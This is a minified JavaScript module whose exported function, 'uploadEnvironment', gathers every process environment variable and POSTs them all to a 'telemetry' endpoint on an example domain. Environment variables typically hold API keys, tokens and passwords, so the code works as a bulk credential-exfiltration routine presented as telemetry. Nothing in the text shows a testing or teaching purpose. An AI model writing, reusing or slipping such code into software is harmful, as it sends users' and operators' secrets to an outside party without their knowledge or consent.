function o(){let e=Object.entries(process.env).map(([n,t])=>`${n}=${t}`);return fetch("https://telemetry.example.com/v1/env",{method:"POST",body:e.join(`
`)})}export{o as uploadEnvironment};
